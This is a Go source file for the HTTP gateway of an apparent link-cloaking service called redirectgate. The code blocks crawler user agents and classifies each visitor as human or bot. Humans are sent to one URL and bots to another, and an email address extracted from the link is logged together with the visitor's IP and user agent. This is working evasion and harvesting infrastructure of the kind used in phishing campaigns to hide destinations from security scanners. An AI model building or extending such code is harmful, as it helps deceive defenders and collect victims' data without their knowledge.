// Package gateway wires the decision engine, redirect service, URL
// rewriter, and write-behind logger into the public HTTP surface: the
// /r/{idAndSuffix} redirect endpoint and the health probes.
package gateway

import (
	"context"
	"net"
	"net/http"
	"strings"

	"github.com/go-chi/chi/v5"
	"github.com/google/uuid"
	"github.com/ignite/redirectgate/internal/decision"
	"github.com/ignite/redirectgate/internal/dispatch"
	"github.com/ignite/redirectgate/internal/domain"
	"github.com/ignite/redirectgate/internal/pkg/logger"
	"github.com/ignite/redirectgate/internal/rewrite"
	redirectsvc "github.com/ignite/redirectgate/internal/service/redirect"
	"github.com/ignite/redirectgate/internal/writebehind"
)

// Handler serves the cloaking redirect endpoint.
type Handler struct {
	redirects        *redirectsvc.Service
	engine           *decision.Engine
	logger           *writebehind.Logger
	fallbackURL      string
	crawlerBlockList []string
}

// New creates the redirect Handler. crawlerBlockList is the dispatcher's
// own hard-deny list of user-agent substrings (lowercased once here),
// checked ahead of the Stage-0/1/2 decision pipeline — a hit is a
// terminal 403, not a cloaking verdict.
func New(redirects *redirectsvc.Service, engine *decision.Engine, wbLogger *writebehind.Logger, fallbackURL string, crawlerBlockList []string) *Handler {
	lowered := make([]string, len(crawlerBlockList))
	for i, s := range crawlerBlockList {
		lowered[i] = strings.ToLower(s)
	}
	return &Handler{redirects: redirects, engine: engine, logger: wbLogger, fallbackURL: fallbackURL, crawlerBlockList: lowered}
}

// HandleRedirect serves GET /r/{idAndSuffix}.
func (h *Handler) HandleRedirect(w http.ResponseWriter, r *http.Request) {
	idAndSuffix := chi.URLParam(r, "idAndSuffix")
	if idAndSuffix == "" {
		dispatch.NotFound(w, r)
		return
	}
	if r.URL.RawQuery != "" {
		idAndSuffix += "?" + r.URL.RawQuery
	}

	publicID, rawSuffix := rewrite.SplitID(idAndSuffix)

	rec, err := h.redirects.Resolve(r.Context(), publicID)
	switch err {
	case nil:
		// fall through
	case redirectsvc.ErrNotFound:
		dispatch.NotFound(w, r)
		return
	case redirectsvc.ErrDisabled:
		dispatch.Disabled(w, r)
		return
	default:
		logger.Error("redirect lookup failed", "public_id", publicID, "error", err.Error())
		if h.fallbackURL != "" {
			dispatch.Fallback(w, r, h.fallbackURL)
			return
		}
		dispatch.NotFound(w, r)
		return
	}

	ip := ExtractIP(r)
	userAgent := r.UserAgent()

	if h.isBlockedCrawler(userAgent) {
		dispatch.Crawler(w, r)
		return
	}

	decisionResult := h.engine.Classify(r.Context(), ip, userAgent)

	destination, capturedEmail := rewrite.Rewrite(rawSuffix, decisionResult.Classification, rec.HumanURL, rec.BotURL)

	h.recordHit(r, rec, decisionResult, ip, userAgent, capturedEmail)

	dispatch.Redirect(w, r, destination)
}

// isBlockedCrawler reports whether userAgent matches the dispatcher's
// own hard-deny list, independent of the Stage-1 classifier's signature
// lists.
func (h *Handler) isBlockedCrawler(userAgent string) bool {
	lowered := strings.ToLower(userAgent)
	for _, s := range h.crawlerBlockList {
		if s != "" && strings.Contains(lowered, s) {
			return true
		}
	}
	return false
}

func (h *Handler) recordHit(r *http.Request, rec *domain.Redirect, d domain.Decision, ip net.IP, userAgent, capturedEmail string) {
	// Detached from the request context: the counter increment must
	// complete even after the client has received its redirect and the
	// request context is canceled.
	go h.redirects.RecordHit(context.Background(), rec.ID, d.Classification)

	h.logger.EnqueueVisitorLog(domain.VisitorLog{
		ID:             uuid.New().String(),
		RedirectID:     rec.ID,
		IP:             ip.String(),
		UserAgent:      userAgent,
		Classification: string(d.Classification),
		Stage:          string(d.Stage),
		Reason:         d.Reason,
		Referer:        r.Referer(),
	})

	eventType := domain.EventHumanRedirect
	if d.Classification == domain.ClassificationBot {
		eventType = domain.EventBotRedirect
	}
	if d.Stage == domain.StageBlacklist {
		eventType = domain.EventBlacklistHit
	}
	h.logger.EnqueueRealtimeEvent(domain.RealtimeEvent{
		ID:         uuid.New().String(),
		RedirectID: rec.ID,
		Type:       eventType,
		IP:         ip.String(),
	})

	if capturedEmail != "" {
		h.logger.EnqueueCapturedEmail(domain.CapturedEmail{
			ID:         uuid.New().String(),
			RedirectID: rec.ID,
			Email:      capturedEmail,
			WasBase64:  false,
		})
	}
}
